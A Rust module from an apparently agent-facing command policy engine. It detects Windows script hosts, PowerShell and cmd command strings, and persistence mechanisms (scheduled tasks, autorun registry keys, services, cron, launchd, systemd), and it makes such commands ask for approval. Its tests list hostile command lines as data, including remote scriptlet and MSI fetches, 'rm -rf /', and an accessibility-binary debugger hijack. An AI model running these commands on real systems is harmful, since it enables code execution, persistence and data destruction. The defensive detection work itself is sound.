//! Programs that launch code the engine cannot read, and commands that register a
//! program to run later. Both **ask** whatever the risk tolerance, like a shell fed
//! from a pipe (`… | bash`) or a write to `~/.bashrc`: the command line says
//! nothing about what will run.
//!
//! - [`unread_code`]: Windows' script and DLL hosts (`mshta`, `regsvr32`,
//!   `rundll32`), shells given a command string in a language other than bash
//!   (`cmd /c`, `powershell -Command`, `forfiles /c`, `wmic … call create`, `wsl
//!   CMD`), installers of a package named by URL (`msiexec /i https://…`), and
//!   BITS' notify command.
//! - [`autostart`]: scheduled tasks, services, autorun registry keys, cron tables,
//!   launchd jobs.
//!
//! Windows programs take options with `/` or `-` in any case; names come in
//! lower case without `.exe` ([`super::wrappers::command_name`]).

/// Why `name args…` runs code the engine cannot read, or `None`. `reads_stdin`:
/// the command's standard input is a pipe, a file or a here-document, which a
/// shell runs as commands.
pub fn unread_code(name: &str, args: &[&str], reads_stdin: bool) -> Option<String> {
    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    let option = |o: &str| lower.iter().any(|a| is_option(a, o));
    match name {
        "mshta" => Some(
            "`mshta` runs an HTML application's script (often fetched from the network), which the policy engine cannot read".into(),
        ),
        "regsvr32" => Some(
            "`regsvr32` runs a DLL's registration code (`/i:URL` fetches a scriptlet), which the policy engine cannot read".into(),
        ),
        "rundll32" => Some(
            "`rundll32` runs a function of a DLL (or inline script), which the policy engine cannot read".into(),
        ),
        "cmd" if cmd_runs_a_command(&lower) || reads_stdin => Some(
            "`cmd` runs a command line in cmd.exe's language, which the policy engine does not analyse".into(),
        ),
        "pcalua" | "conhost" | "msbuild" | "installutil" | "regasm" | "regsvcs" | "odbcconf"
        | "cmstp" | "hh" | "msxsl" | "presentationhost" | "ieexec" | "infdefaultinstall"
        | "mavinject" | "syncappvpublishingserver" | "start"
            if !args.is_empty() =>
        {
            Some(format!(
                "`{name}` starts a program, or runs code from a project, DLL, INF or help file, which the policy engine cannot read"
            ))
        }
        "forfiles" if option("c") => Some(
            "`forfiles /c` runs a command line in cmd.exe's language for each file, which the policy engine does not analyse".into(),
        ),
        "wmic" if lower.iter().any(|a| a == "call") && lower.iter().any(|a| a == "create") => {
            Some("`wmic … call create` starts a program the policy engine cannot read".into())
        }
        "wmic" if lower.iter().any(|a| a.contains("subscription") || a.contains("consumer")) => {
            Some("`wmic` writes a WMI event subscription, which runs a program on an event".into())
        }
        "msiexec" if option("y") || option("z") => Some(
            "`msiexec /y` registers a DLL (runs its registration code), which the policy engine cannot read".into(),
        ),
        "explorer" if !args.is_empty() => Some(
            "`explorer` opens a program or file with its handler, which the policy engine cannot read".into(),
        ),
        "netsh" if lower.windows(2).any(|p| p[0] == "add" && p[1] == "helper") => Some(
            "`netsh add helper` makes netsh load a DLL every time it runs".into(),
        ),
        "powershell" | "pwsh" | "pwsh-preview" | "powershell_ise"
            if powershell_runs_a_string(name, &lower, reads_stdin) =>
        {
            Some(format!(
            "`{name}` runs a command string (or its standard input) in PowerShell's language, which is not analysed from a bash line"
        ))
        }
        "wsl" if wsl_runs_a_command(&lower) => Some(
            "`wsl` runs a command inside a Linux distribution, which the policy engine does not analyse".into(),
        ),
        "msiexec"
            if lower.iter().any(|a| {
                let value = a.split_once([':', '=']).map_or(a.as_str(), |(_, v)| v);
                is_remote(a) || is_remote(value)
            }) =>
        {
            Some("`msiexec` installs a package fetched from the network, which the policy engine cannot read".into())
        }
        "sed" | "gsed" if sed_script_runs_or_writes(args) => Some(
            "`sed`'s script runs a shell command (`e`) or writes a file (`w`), which the policy engine does not follow".into(),
        ),
        "awk" | "gawk" | "mawk" | "nawk" if awk_program_runs_or_writes(args) => Some(format!(
            "`{name}`'s program runs a command (`system`, a pipe) or writes a file (`print > FILE`), which the policy engine does not follow"
        )),
        "tar" | "gtar" | "bsdtar" if tar_runs_a_program(args) => Some(format!(
            "`{name}` runs a program of its options' choosing (`--to-command`, `--checkpoint-action=exec`, `-I`/`--use-compress-program`, `--rsh-command`, `-F`/`--info-script`), which the policy engine does not follow"
        )),
        "bitsadmin" if option("setnotifycmdline") => Some(
            "`bitsadmin /setnotifycmdline` makes BITS run a program later, which the policy engine cannot read".into(),
        ),
        _ => None,
    }
}

/// Why `name args…` makes a program run later (at logon, on a schedule, as a
/// service), or `None`.
pub fn autostart(name: &str, args: &[&str]) -> Option<String> {
    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    let option = |o: &str| lower.iter().any(|a| is_option(a, o));
    let operand = |i: usize| lower.iter().filter(|a| !a.starts_with('-')).nth(i);
    let why = match name {
        "schtasks" if option("create") || option("change") => {
            "`schtasks` creates or changes a scheduled task"
        }
        "at" if !args.is_empty() && !option("l") => "`at` schedules a command",
        "batch" => "`batch` schedules a command",
        "sc" if [0, 1].iter().any(|&k| {
            matches!(
                operand(k).map(String::as_str),
                Some("create" | "config" | "failure")
            )
        }) =>
        {
            "`sc` creates or reconfigures a service"
        }
        "reg" => match operand(0).map(String::as_str) {
            Some("import" | "restore" | "load") => {
                "`reg` loads registry settings from a file, which the policy engine does not read"
            }
            Some("add" | "copy")
                if is_autorun_key(&lower.join(" ")) || is_autorun_value(&lower) =>
            {
                "`reg` writes a registry key that starts programs"
            }
            _ => return None,
        },
        // `crontab FILE`, `crontab -` and a bare `crontab` (POSIX: standard input)
        // replace the table; `-e` edits it. `-l` lists, `-r` removes.
        "crontab" if !lower.iter().any(|a| a == "-l" || a == "-r") => {
            "`crontab` installs a cron table"
        }
        "setx" if !args.is_empty() => {
            "`setx` sets a variable in every later session's environment (`COMSPEC`, `PATH`, …)"
        }
        "regedit" | "regini" if !args.is_empty() => {
            "`regedit` loads registry settings from a file, which the policy engine does not read"
        }
        "systemctl" if systemctl_installs_a_unit(&lower) => "`systemctl` enables or links a unit",
        "systemd-run" => "`systemd-run` starts a command as a unit (on a timer, as a service)",
        "launchctl"
            if matches!(
                operand(0).map(String::as_str),
                Some("load" | "bootstrap" | "submit" | "enable")
            ) =>
        {
            "`launchctl` loads or enables a launchd job"
        }
        _ => return None,
    };
    Some(format!(
        "{why}: programs run later, in another context, and the command line does not say what they do"
    ))
}

/// `/c`, `-c`, `/C` (already lower case) is option `o`; `/create` too for "create".
fn is_option(arg: &str, o: &str) -> bool {
    arg.strip_prefix(['/', '-'])
        .is_some_and(|rest| rest == o || rest.strip_prefix(o).is_some_and(|r| r.starts_with(':')))
}

fn is_remote(a: &str) -> bool {
    a.starts_with("http://")
        || a.starts_with("https://")
        || a.starts_with("\\\\")
        || a.starts_with("//")
}

/// Whether cmd.exe is given a command: `/c`, `/k`, `/r` in any spelling it
/// reads (`/C`, `/ccalc` glued, `/q/c` chained, Git Bash's `//c`), or an operand.
/// Only `/?` and switches such as `/q /d /u` run nothing.
fn cmd_runs_a_command(lower: &[String]) -> bool {
    lower.iter().any(|a| {
        a.strip_prefix('/').is_none_or(|rest| {
            rest.split('/')
                .any(|switch| switch.starts_with(['c', 'k', 'r']))
        })
    })
}

/// PowerShell accepts any unambiguous prefix of a parameter (`-c`, `-com`,
/// `-Command`, `-e`, `-enc`, `-EncodedCommand`, `-cwa`), introduced by `-`, `--`,
/// `/` or a Unicode dash (`–Command`), and `powershell.exe` reads a bare first
/// operand as `-Command`; `pwsh` reads it as `-File`. `-File -` and no command at
/// all read commands from standard input.
fn powershell_runs_a_string(name: &str, lower: &[String], reads_stdin: bool) -> bool {
    let mut i = 0;
    while i < lower.len() {
        let a = lower[i].as_str();
        let Some(p) = a
            .strip_prefix("--")
            .or_else(|| a.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']))
        else {
            // The first operand: a command (powershell) or a script file (pwsh).
            return name != "pwsh" && !a.ends_with(".ps1");
        };
        if p.is_empty() {
            return true; // `-`: commands from standard input
        }
        if "command".starts_with(p)
            || "encodedcommand".starts_with(p)
            || "commandwithargs".starts_with(p)
            || matches!(p, "ec" | "cwa")
        {
            return true;
        }
        if "file".starts_with(p) {
            return lower.get(i + 1).is_none_or(|f| f == "-");
        }
        if matches!(p, "?" | "help" | "h") {
            return false;
        }
        // `pwsh -v` prints the version; Windows PowerShell's `-Version N` picks
        // the engine that then runs the rest.
        if "version".starts_with(p) && name == "pwsh" {
            return false;
        }
        // Parameters that take a value.
        let takes_value = [
            "executionpolicy",
            "ex",
            "ep",
            "workingdirectory",
            "wd",
            "inputformat",
            "outputformat",
            "windowstyle",
            "configurationname",
            "settingsfile",
            "version",
            "psconsolefile",
            "custompipename",
        ]
        .iter()
        .any(|v| v.starts_with(p));
        i += if takes_value { 2 } else { 1 };
    }
    reads_stdin
}

/// A value `reg add KEY /v NAME` names that starts a program wherever its key
/// is: `Load` and `Run` (under `Windows NT\CurrentVersion\Windows`), the
/// screensaver (`SCRNSAVE.EXE`), `Userinit`, `Shell`, `AutoRun`, `Debugger`.
fn is_autorun_value(lower: &[String]) -> bool {
    lower.windows(2).any(|p| {
        is_option(&p[0], "v")
            && matches!(
                p[1].as_str(),
                "load"
                    | "run"
                    | "scrnsave.exe"
                    | "userinit"
                    | "shell"
                    | "autorun"
                    | "debugger"
                    | "appinit_dlls"
                    | "monitorprocess"
            )
    })
}

/// sed's scripts (`-e S`, `--expression=S`, or the first operand): a command
/// `e`, `w` or `W`, or an `s` command with the `e` or `w` flag.
fn sed_script_runs_or_writes(args: &[&str]) -> bool {
    let mut scripts: Vec<&str> = Vec::new();
    let mut explicit = false;
    let mut k = 0;
    while k < args.len() {
        let a = args[k];
        if a == "-e" || a == "--expression" {
            scripts.extend(args.get(k + 1).copied());
            explicit = true;
            k += 2;
            continue;
        }
        if let Some(v) = a.strip_prefix("--expression=") {
            scripts.push(v);
            explicit = true;
        } else if let Some(v) = a.strip_prefix("-e").filter(|v| !v.is_empty()) {
            scripts.push(v);
            explicit = true;
        }
        k += 1;
    }
    if !explicit {
        scripts.extend(args.iter().copied().find(|a| !a.starts_with('-')));
    }
    scripts
        .iter()
        .any(|s| s.split(['\n', ';']).any(sed_command_runs_or_writes))
}

/// One sed command, its address skipped (line numbers, `$`, `,`, `!`,
/// `/regex/`).
fn sed_command_runs_or_writes(command: &str) -> bool {
    let mut chars = command
        .trim_start_matches([' ', '\t', '{', '}'])
        .chars()
        .peekable();
    while let Some(&c) = chars.peek() {
        if c == '/' {
            chars.next();
            past_delimiter(&mut chars, '/');
        } else if c.is_ascii_digit() || matches!(c, '$' | ',' | '!' | ' ' | '~' | '+') {
            chars.next();
        } else {
            break;
        }
    }
    match chars.next() {
        Some('e' | 'w' | 'W') => true,
        Some('s') => {
            let Some(delim) = chars.next() else {
                return false;
            };
            // The pattern, the replacement, then the flags.
            past_delimiter(&mut chars, delim);
            past_delimiter(&mut chars, delim);
            chars.any(|flag| matches!(flag, 'e' | 'w'))
        }
        _ => false,
    }
}

/// Consumes `chars` up to and including the next `delim` that no backslash
/// escapes (the end of a sed address `/re/` or of an `s` command's part).
fn past_delimiter(chars: &mut impl Iterator<Item = char>, delim: char) {
    let mut escaped = false;
    for c in chars.by_ref() {
        if c == delim && !escaped {
            return;
        }
        escaped = c == '\\' && !escaped;
    }
}

/// tar's options that run a program: `--to-command`, `--checkpoint-action=exec`,
/// `--use-compress-program` (`-I`), `--rsh-command`, `--info-script` /
/// `--new-volume-script` (`-F`), by any GNU prefix; `-I` and `-F` in a cluster or
/// in the old-style first word.
fn tar_runs_a_program(args: &[&str]) -> bool {
    const RUNS: &[(&str, usize)] = &[
        ("--to-command", 5),
        ("--checkpoint-action", 12),
        ("--use-compress-program", 5),
        ("--rsh-command", 5),
        ("--info-script", 5),
        ("--new-volume-script", 5),
    ];
    args.iter().enumerate().any(|(i, a)| {
        let key = a.split('=').next().unwrap_or(a);
        if key.starts_with("--") {
            return RUNS
                .iter()
                .any(|(full, min)| key.len() >= *min && full.starts_with(key));
        }
        let letters = match a.strip_prefix('-') {
            Some(cluster) => cluster,
            None if i == 0 => a,
            None => return false,
        };
        letters.chars().all(|c| c.is_ascii_alphanumeric()) && letters.contains(['I', 'F'])
    })
}

/// awk's program (its first operand) runs a command (`system(`, `| "cmd"`,
/// `"cmd" | getline`) or writes a file (`print > "f"`). A comparison (`$1 >
/// 5`) is told apart only by `print`/`printf` before the `>`, so the check errs
/// towards asking.
fn awk_program_runs_or_writes(args: &[&str]) -> bool {
    args.iter().find(|a| !a.starts_with('-')).is_some_and(|p| {
        p.contains("system(")
            || p.contains("getline")
            || p.split([';', '{', '}', '\n']).any(|statement| {
                let s = statement.trim_start();
                s.starts_with("print") && s.contains(['>', '|'])
            })
    })
}

/// `systemctl [--user] enable|link|reenable|preset|edit|set-property …`: a unit
/// that starts later, or a unit file written from elsewhere.
fn systemctl_installs_a_unit(lower: &[String]) -> bool {
    lower.iter().any(|a| {
        matches!(
            a.as_str(),
            "enable"
                | "link"
                | "reenable"
                | "preset"
                | "preset-all"
                | "edit"
                | "set-property"
                | "add-wants"
                | "add-requires"
                | "revert"
        )
    })
}

/// `wsl CMD`, `wsl -e CMD`, `wsl --exec CMD`, `wsl -- CMD`, `wsl -d X CMD`: a
/// command runs in Linux. `--list`, `--status`, `--shutdown`, … do not.
fn wsl_runs_a_command(lower: &[String]) -> bool {
    let mut i = 0;
    while i < lower.len() {
        match lower[i].as_str() {
            "-e" | "--exec" | "--" => return true,
            "-d" | "--distribution" | "-u" | "--user" | "--cd" | "--shell-type"
            | "--distribution-id" => i += 2,
            // Commands of wsl itself, which run nothing in Linux.
            "-l"
            | "--list"
            | "--status"
            | "--shutdown"
            | "--terminate"
            | "-t"
            | "--update"
            | "--version"
            | "-v"
            | "--help"
            | "--export"
            | "--import"
            | "--unregister"
            | "--set-default"
            | "-s"
            | "--set-version"
            | "--set-default-version"
            | "--install"
            | "--mount"
            | "--unmount"
            | "--manage" => return false,
            // Other options (`--system`, newer ones) come before a command.
            a if a.starts_with('-') => i += 1,
            _ => return true,
        }
    }
    false
}

/// Registry keys whose values start programs: the Run keys, Winlogon, Image File
/// Execution Options (debuggers), services, COM servers, and the shell folders
/// (where Startup points). Bash takes unquoted backslashes away
/// (`HKCU\Software\…\Run` arrives as `HKCUSoftware…Run`), so the key is compared
/// with its separators removed.
fn is_autorun_key(arg: &str) -> bool {
    let flat: String = arg
        .chars()
        .filter(|c| !matches!(c, '\\' | '/' | ' '))
        .collect();
    [
        "currentversionrun",
        "currentversionpoliciesexplorerrun",
        "winlogon",
        "imagefileexecutionoptions",
        "silentprocessexit",
        "currentcontrolsetservices",
        "controlset001services",
        "controlset002services",
        "commandprocessor",
        "shellopencommand",
        "shellrunascommand",
        "shellex",
        "userinitmprlogonscript",
        "policiessystemscripts",
        "grouppolicyscripts",
        "terminalserverinstall",
        "windowsload",
        "lsaauthenticationpackages",
        "lsasecuritypackages",
        "lsanotificationpackages",
        "printmonitors",
        "netshhelpers",
        "explorershellexecutehooks",
        "appcertdlls",
        "inprocserver32",
        "localserver32",
        "shellfolders",
        "appinit_dlls",
        "activesetupinstalledcomponents",
        "sessionmanager",
        "environment",
    ]
    .iter()
    .any(|k| flat.contains(k))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<&str> {
        s.split_whitespace().collect()
    }

    #[test]
    fn code_launchers_are_named() {
        for (name, args) in [
            ("mshta", "http://x.io/a.hta"),
            ("mshta", "vbscript:Execute(\"x\")"),
            ("regsvr32", "/s /n /u /i:http://x.io/a.sct scrobj.dll"),
            ("rundll32", "javascript:\"\\..\\mshtml,RunHTMLApplication\""),
            ("cmd", "/c del x"),
            ("cmd", "/C del x"),
            ("forfiles", "/p c:\\ /m *.txt /c \"cmd /c del @file\""),
            ("wmic", "process call create calc"),
            ("powershell", "-c Remove-Item x"),
            ("powershell", "-NoProfile -EncodedCommand SQBFAFgA"),
            ("powershell", "Remove-Item x"),
            ("powershell", "-ExecutionPolicy Bypass -Com iex"),
            ("pwsh", "-"),
            ("wsl", "rm -rf /"),
            ("wsl", "-d Ubuntu -e rm -rf /"),
            ("msiexec", "/i https://x.io/a.msi /qn"),
            ("msiexec", "/package=\\\\evil\\share\\a.msi"),
            ("bitsadmin", "/SetNotifyCmdLine job calc.exe NULL"),
            // The fourth red-team round: cmd's other spellings, PowerShell's.
            ("cmd", "//c calc"),
            ("cmd", "/ccalc"),
            ("cmd", "/q/c calc"),
            ("cmd", "/Q /K calc"),
            ("pwsh", "--command calc"),
            ("pwsh", "-CommandWithArgs calc"),
            ("pwsh", "-cwa calc"),
            ("pwsh", "\u{2013}Command calc"),
            ("pwsh", "-File -"),
            ("pcalua", "-a calc.exe"),
            ("msbuild", "evil.proj"),
            ("conhost", "--headless calc.exe"),
        ] {
            assert!(
                unread_code(name, &words(args), false).is_some(),
                "{name} {args}"
            );
        }
        for (name, args) in [
            ("cmd", ""),
            ("pwsh", "-File build.ps1"),
            ("pwsh", "build.ps1"),
            ("powershell", "-NoProfile -File build.ps1"),
            ("powershell", "-Version"),
            ("wsl", "--list --verbose"),
            ("wsl", "--status"),
            ("msiexec", "/i C:\\pkgs\\a.msi /qn"),
            ("bitsadmin", "/list"),
            ("wmic", "process list brief"),
            ("git", "status"),
        ] {
            assert!(
                unread_code(name, &words(args), false).is_none(),
                "{name} {args}"
            );
        }
        // Standard input from a pipe or a file is a script.
        for name in ["cmd", "pwsh", "powershell"] {
            assert!(unread_code(name, &[], true).is_some(), "{name}");
            assert!(unread_code(name, &[], false).is_none(), "{name}");
        }
        assert!(unread_code("cmd", &["/?"], true).is_some());
        assert!(unread_code("cmd", &["/?"], false).is_none());
    }

    #[test]
    fn autostart_registrations_are_named() {
        for (name, args) in [
            ("schtasks", "/create /tn x /tr calc.exe /sc onlogon"),
            ("schtasks", "/Change /TN x /TR evil.exe"),
            ("at", "now + 1 minute"),
            ("sc", "create evil binPath= c:\\x.exe"),
            ("sc", "\\\\host config svc binPath= c:\\x.exe"),
            (
                "reg",
                "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe",
            ),
            (
                "reg",
                "ADD HKCUSoftwareMicrosoftWindowsCurrentVersionRunOnce /v x /d calc",
            ),
            (
                "reg",
                "add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /d cmd.exe",
            ),
            ("reg", "import evil.reg"),
            ("crontab", "jobs.txt"),
            ("crontab", "-u root jobs.txt"),
            ("crontab", "-"),
            ("crontab", "-e"),
            ("launchctl", "load ~/Library/LaunchAgents/x.plist"),
            ("launchctl", "bootstrap gui/501 x.plist"),
            (
                "reg",
                "add \"HKCU\\Software\\Microsoft\\Command Processor\" /v AutoRun /d calc",
            ),
            (
                "reg",
                "add HKLMSYSTEMControlSet001Servicesx /v ImagePath /d calc",
            ),
            (
                "reg",
                "add HKCU\\Software\\Classes\\txtfile\\shell\\open\\command /ve /d calc",
            ),
            ("setx", "COMSPEC calc.exe"),
            ("regedit", "/s evil.reg"),
            ("sc", "failure svc command= calc.exe"),
            ("systemctl", "--user enable evil.service"),
            ("systemctl", "--user link /tmp/evil.service"),
            ("systemd-run", "--user --on-calendar=hourly /tmp/evil"),
        ] {
            assert!(autostart(name, &words(args)).is_some(), "{name} {args}");
        }
        for (name, args) in [
            ("schtasks", "/query"),
            ("at", "-l"),
            ("sc", "query wuauserv"),
            (
                "reg",
                "query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            ),
            ("reg", "add HKCU\\Software\\Acme /v x /d 1"),
            ("crontab", "-l"),
            ("crontab", "-u dev -l"),
            ("launchctl", "list"),
            ("systemctl", "--user status evil.service"),
            ("systemctl", "restart nginx"),
        ] {
            assert!(autostart(name, &words(args)).is_none(), "{name} {args}");
        }
    }
}
